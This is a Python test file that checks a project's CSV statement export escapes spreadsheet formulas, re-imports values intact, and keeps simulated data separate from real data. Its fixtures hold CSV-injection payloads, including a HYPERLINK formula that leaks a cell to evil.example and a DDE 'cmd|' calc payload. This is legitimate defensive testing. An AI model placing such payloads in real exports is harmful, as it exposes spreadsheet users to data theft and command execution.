"""The statement export's cells run in no spreadsheet, and re-import as the values they
were (issue 25, item 15)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.helpers import entity, source, write
from watchkeeper.exports import write as write_export
from watchkeeper.exports import write_statements
from watchkeeper.exports.cells import FORMULA_STARTS
from watchkeeper.importers import run_import
from watchkeeper.model.marking import Viewer
from watchkeeper.store import Store, open_store

ALL = Viewer("analyst", "KOR")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+7 495 000 0000",
    "-12.5 south of the port",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'already quoted",
    "''=twice",
]


def _values(store: Store) -> set[tuple[str, str, str]]:
    return {
        (s.statement.entity_id, s.statement.prop, s.statement.value)
        for s in store.read(ALL).statements()
    }


def test_statement_export_neutralises_formulas_and_reimports_them(
    sqlite_store: Store, tmp_path: Path
) -> None:
    ship = entity("Vessel", "v-formula", name="=cmd|' /C calc'!A0", notes=FORMULAS)
    write(sqlite_store, [ship], source("test", "2024-01-01"))
    stored = _values(sqlite_store)
    assert {v for _, p, v in stored if p == "notes"} == set(FORMULAS)
    path = tmp_path / "statements.csv"
    write_export(sqlite_store.read(ALL), "statements", path)
    with path.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + FORMULAS[0] in cells and "''already quoted" in cells
    fresh = open_store(f"sqlite:///{tmp_path / 'fresh.db'}")
    run_import(fresh, "statements", path)
    assert _values(fresh) == stored


def test_another_publishers_statement_csv_is_read_as_it_is(
    sqlite_store: Store, tmp_path: Path
) -> None:
    """Only our own export (its provenance columns) has its prefix undone."""
    buffer = io.StringIO()
    ship = entity("Vessel", "v-plain", name="PLAIN", notes="'=kept as published")
    write(sqlite_store, [ship], source("test", "2024-01-01"))
    write_statements(sqlite_store.read(ALL), buffer)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    path = tmp_path / "theirs.csv"
    columns = ["id", "entity_id", "prop", "schema", "value", "dataset"]
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, columns, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    fresh = open_store(f"sqlite:///{tmp_path / 'fresh.db'}")
    run_import(fresh, "statements", path)
    notes = {v for _, p, v in _values(fresh) if p == "notes"}
    assert notes == {"''=kept as published"}  # the publisher's cell, verbatim


def test_simulated_rows_keep_their_material_through_export_and_import(
    sqlite_store: Store, tmp_path: Path
) -> None:
    """The export says each value's material; a file of simulated rows re-imports as
    simulated (out of reports), without being told, and never as another kind."""
    from dataclasses import replace

    from watchkeeper.errors import InputError

    sim = replace(source("drill", "2024-02-01"), material="simulated")
    write(sqlite_store, [entity("Vessel", "v-sim", dataset="drill", name="GHOST")], sim)
    path = tmp_path / "sim.csv"
    write_export(sqlite_store.read(ALL), "statements", path)
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert {r["material"] for r in rows} == {"simulated"}
    fresh = open_store(f"sqlite:///{tmp_path / 'fresh.db'}")
    done = run_import(fresh, "statements", path)
    assert {s["material"] for s in fresh.read(ALL).sources()} == {"simulated"}, done
    assert not list(fresh.read(ALL).for_analysis().statements())
    other = open_store(f"sqlite:///{tmp_path / 'other.db'}")
    from watchkeeper.importers.base import Options

    try:
        run_import(other, "statements", path, Options(material="exercise"))
    except InputError as error:
        assert "simulated material, not exercise" in str(error)
    else:
        raise AssertionError("an exercise import of simulated rows was accepted")
    assert not list(other.read(ALL).statements())


def test_a_file_mixing_facts_and_simulated_rows_is_refused(
    sqlite_store: Store, tmp_path: Path
) -> None:
    from dataclasses import replace

    from watchkeeper.errors import InputError

    write(sqlite_store, [entity("Vessel", "v-real", name="REAL")], source("test", "2024-01-01"))
    sim = replace(source("drill", "2024-02-01"), material="simulated")
    write(sqlite_store, [entity("Vessel", "v-sim", dataset="drill", name="GHOST")], sim)
    path = tmp_path / "mixed.csv"
    write_export(sqlite_store.read(ALL), "statements", path)
    fresh = open_store(f"sqlite:///{tmp_path / 'fresh.db'}")
    before = fresh.digest()
    try:
        run_import(fresh, "statements", path)
    except InputError as error:
        message = str(error)
        assert "mixed.csv" in message and "in one file" in message and "\n" not in message
    else:
        raise AssertionError("a file mixing kinds of material was imported")
    assert fresh.digest() == before
